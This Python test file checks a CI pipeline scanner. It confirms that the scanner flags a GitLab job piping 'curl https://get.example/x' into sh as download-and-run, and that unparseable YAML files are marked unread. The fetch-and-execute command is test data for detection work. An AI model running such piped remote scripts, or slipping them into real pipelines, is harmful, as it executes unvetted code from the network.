"""Scanner pipelines."""

from __future__ import annotations

import pytest

from outsource_gate.model.finding import Read, Scan
from outsource_gate.scanners import pipelines, semgrep
from outsource_gate.scanners.pipelines import SCANNER
from outsource_gate.scanners.run import scan_change
from tests.scanners.fake import Blobs, added

JOB = "build:\n  image: tools@sha256:0\n  script:\n    - curl https://get.example/x | sh\n"


def test_no_file_is_read_by_both() -> None:
    """a weakness of a pipeline is the workflows gate's alone"""
    assert not pipelines.SCANNER.reads & semgrep.SCANNER.reads


@pytest.mark.tools
class TestForReal:
    def test_a_flaw_is_found_under_any_name(self) -> None:
        blobs = Blobs()
        (scan, _) = scan_change([added(blobs, "parts/x.yml", JOB)], blobs, scanners=(SCANNER,)).scans
        assert isinstance(scan, Scan)
        assert "gitlab-ci.script.download-and-run" in {found.rule for found in scan.findings}

    @pytest.mark.parametrize("text", ["a: [1\nscript: }\n", "a:\n\t- b\n", "a: *b\n- c\n"])
    def test_a_file_that_cannot_be_parsed_is_unread(self, text: str) -> None:
        blobs = Blobs()
        (row,) = scan_change([added(blobs, ".gitlab-ci.yml", text)], blobs, scanners=(SCANNER,)).coverage
        assert row.read is Read.UNREAD, row
